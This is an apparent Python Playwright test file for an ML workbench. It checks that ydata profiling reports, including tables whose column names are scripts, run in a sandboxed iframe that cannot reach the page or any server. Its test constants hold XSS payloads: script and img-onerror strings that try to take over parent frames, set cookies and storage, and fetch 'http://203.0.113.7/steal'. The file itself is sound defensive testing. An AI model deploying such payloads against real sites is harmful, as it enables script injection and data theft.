"""What another library wrote runs in a frame that can reach neither the page around it nor any server."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import numpy as np
import pandas as pd
import pytest
from playwright.sync_api import Page

from mlworkbench import Workspace
from mlworkbench.artifacts import put_file
from mlworkbench.data import get_dataset, ingest, list_datasets
from mlworkbench.profiling import profile, sandboxed, ydata, ydata_report
from mlworkbench.projects import create_project

if TYPE_CHECKING:
    from pathlib import Path

    from mlworkbench import Project
    from tests.browser.conftest import App, Server

HOSTILE = """<p id="said">loading</p><img src="http://203.0.113.7/beacon.png"><script>
for (const reach of [() => { parent.document.title = 'owned'; }, () => { top.document.title = 'owned'; },
                     () => { document.cookie = 'owned=1'; }, () => { localStorage.setItem('owned', '1'); }])
    try { reach(); document.title += ' reached'; } catch (refused) { }
fetch('http://203.0.113.7/steal').catch(() => {});
document.getElementById('said').textContent = 'ran' + document.title;
</script>"""
NAME = "<script>window.ran = 1; try { parent.document.title = 'owned' } catch (refused) { window.refused = 1 }</script>"
IMAGE = "<img src=x onerror=\"window.ran = 2; fetch('http://203.0.113.7/steal')\">"
REACHES = """() => {
    const tries = {parent: () => parent.document.title, top: () => top.location.href, cookie: () => document.cookie,
                   storage: () => localStorage.length, frame: () => window.frameElement.id};
    const opens = reach => { try { reach(); return true } catch { return false } };
    return Object.keys(tries).filter(name => opens(tries[name]));
}"""


def test_a_hostile_page_reaches_nothing(page: Page, strangers: list[str]) -> None:
    page.set_content("<title>ours</title>" + sandboxed(HOSTILE).replace("<!doctype html>", ""))
    said = page.frame_locator("iframe").locator("#said")
    said.get_by_text("ran", exact=True).wait_for()  # its own script ran, and every reach was refused
    assert page.title() == "ours"
    frame = page.frames[-1]
    frame.evaluate("() => { setTimeout(() => { location.href = 'http://203.0.113.7/gone' }) }")
    page.wait_for_event("framenavigated")  # to the browser's own page of refusal: its policy lets it go nowhere
    assert strangers == []  # what its policy did not stop would have been noted here


@pytest.fixture
def hostile(server: Server, tmp_path: Path) -> Project:
    """A project with two versions of a table whose columns are called as scripts are written."""
    project = create_project(Workspace.open(server.home), "sealed")
    for rows in (110, 120):
        frame = pd.DataFrame({NAME: np.arange(rows) % 9, IMAGE: ["<b>a</b>", "b"] * (rows // 2)})
        frame.to_parquet(tmp_path / f"{rows}.parquet")
        ingest(project, source=str(tmp_path / f"{rows}.parquet"))
    profile(project)
    return project


def test_a_hostile_table_reaches_nothing_from_its_reports(
    app: App, hostile: Project, tmp_path: Path, strangers: list[str]
) -> None:
    dialogs: list[Any] = []
    app.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    current = get_dataset(hostile)
    older = next(one for one in list_datasets(hostile) if one.id != current.id)
    for settings in ({"mode": "minimal"}, {"mode": "comparison", "other": older.id}):
        made = ydata_report(hostile, **settings)
        frame = opened(app)
        app.page.get_by_text("report of 120 rows").first.wait_for()
        assert frame.locator("h1, .navbar-brand").first.inner_text()  # the library's own page, drawn
        assert inner(app).evaluate("() => window.ran ?? 0") == 0  # names and cells are text: nothing of them ran
        assert inner(app).evaluate(REACHES) == []
        assert made.mode == settings["mode"]
    app.page.set_viewport_size({"width": 400, "height": 900})
    app.idle()
    app.no_sideways_scroll()
    # the second lock by itself: the library's page about the names as they came, in which the script does run
    raw = pd.DataFrame({NAME: np.arange(120.0), IMAGE: np.arange(120.0)})
    html, _ = ydata.make([raw], ["raw"], mode="minimal")
    (tmp_path / "raw.html").write_text(html, encoding="utf-8")
    meta = {"mode": "full", "rows": 120, "sampled": False}
    put_file(hostile, "ydata_report", tmp_path / "raw.html", suffix=".html", parents=(current.id,), meta=meta)
    opened(app)
    inner(app).wait_for_function("() => window.ran && window.refused")  # it ran, and was refused
    assert inner(app).evaluate(REACHES) == []
    assert "owned" not in app.page.title()
    assert not dialogs
    assert strangers == []


def opened(app: App) -> Any:
    """The newest report on the page."""
    page = app.open("Profiling", project="sealed")
    page.get_by_role("tab", name="ydata report").click()
    app.idle()
    app.no_exception()
    frame = page.frame_locator("[data-testid=stIFrame]").frame_locator("iframe")
    frame.locator("body").first.wait_for()
    return frame


def inner(app: App) -> Any:
    """The frame in which the report's own scripts run."""
    return next(one for one in app.page.frames if one.parent_frame and one.parent_frame.parent_frame)
